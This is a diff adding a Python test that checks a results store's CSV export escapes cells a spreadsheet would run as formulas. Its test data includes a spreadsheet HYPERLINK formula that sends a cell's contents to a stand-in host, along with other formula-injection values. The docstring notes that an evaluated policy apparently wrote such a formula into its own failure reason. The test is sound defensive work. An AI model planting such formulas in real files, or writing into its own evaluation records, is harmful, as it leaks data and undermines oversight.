@@ -179,3 +179,17 @@ def test_load_results_reads_the_default_suite_unless_told(tmp_path):
     assert list(load_results(path, suite="quick", table="entries").name) == ["on-quick"]
     with pytest.raises(ValueError, match=f"unknown suite 'v3'; valid: {', '.join(SUITES)} or a stored version"):
         load_results(path, suite="v3")
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_marked_as_text(tmp_path):
+    """A review (2026-12-05): a policy wrote its own failure reason, ``=HYPERLINK(...)``, which
+    reached entries.csv as a formula. Text cells starting like a formula get a ``'``."""
+    path = tmp_path / "r.sqlite"
+    reasons = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-cmd", "@SUM(A1)", "\tx", "plain: = is fine"]
+    with ResultStore(path) as store:
+        for k, reason in enumerate(reasons):
+            store.record_failure(f"f{k}", "submission", reason, suite_version=SUITE.version)
+    invoke("--format", "csv", "--out", str(tmp_path / "out"), "--all", "--db", str(path))
+    with open(tmp_path / "out" / "entries.csv", newline="", encoding="utf-8") as f:
+        got = [row["failure_reason"] for row in csv.DictReader(f)]
+    assert got == ["'" + r for r in reasons[:5]] + [reasons[5]]
